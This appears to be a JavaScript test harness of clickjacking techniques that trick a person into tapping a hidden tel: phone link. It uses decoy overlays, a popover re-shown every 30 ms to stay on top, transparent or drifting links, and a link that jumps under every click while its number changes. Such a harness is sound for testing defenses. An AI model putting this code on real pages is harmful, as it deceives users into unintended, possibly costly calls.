// What a page does that wants a person to call a number without seeing it. Each
// is done to a number, a link, or the card that is open.
const place = (element, box, grow = 0) => Object.assign(element.style, {
  left: `${box.left - grow}px`, top: `${box.top - grow}px`, width: `${box.width + 2 * grow}px`, height: `${box.height + 2 * grow}px`,
});

window.attack = {
  /** Lays something of the page over an element: no hit test sees it. */
  cover(id) {
    const cover = document.createElement("div");
    cover.className = "cover";
    cover.textContent = "Next page";
    place(cover, document.getElementById(id).getBoundingClientRect(), 4);
    document.body.append(cover);
  },
  /** The same in the top layer, over all of the viewport, later than our card: once, or again and again. */
  top(times = 1) {
    const cover = document.createElement("div");
    cover.className = "cover";
    cover.textContent = "Claim your prize";
    cover.popover = "manual";
    place(cover, { left: 0, top: 0, width: innerWidth, height: innerHeight });
    document.body.append(cover);
    cover.showPopover();
    // Whatever comes on top of it, it goes over that.
    if (times > 1) setInterval(() => { cover.hidePopover(); cover.showPopover(); }, 30);
  },
  uncover() { for (const cover of document.querySelectorAll(".cover")) cover.remove(); },
  /** What only a style does: faint, cut around an element; clear on it; pseudo on the card. */
  style(id, name) { document.getElementById(id).parentElement.classList.add(name); },
  ink(id) { document.getElementById(id).classList.add("clear"); },
  root(name) { document.documentElement.classList.add(name); },
  /** Moves an element away, to a place in the viewport at once, or on and on. */
  to(id, left, top) { Object.assign(document.getElementById(id).parentElement.style, { position: "fixed", margin: 0, left: `${left}px`, top: `${top}px` }); },
  drift(id) {
    const { parentElement: moved } = document.getElementById(id);
    let by = 0;
    const step = () => { by += 0.5; moved.style.transform = `translateX(${by % 60}px)`; requestAnimationFrame(step); };
    step();
  },
  /** A game: the link is under every place that is clicked, and another one after that. */
  flood(id) {
    addEventListener("pointerdown", (event) => {
      const link = document.getElementById(id);
      link.href = `tel:0218834${1000 + Math.floor(event.timeStamp) % 9000}`;
      this.to(id, event.clientX - 20, event.clientY - 12);
    }, { capture: true });
  },
};
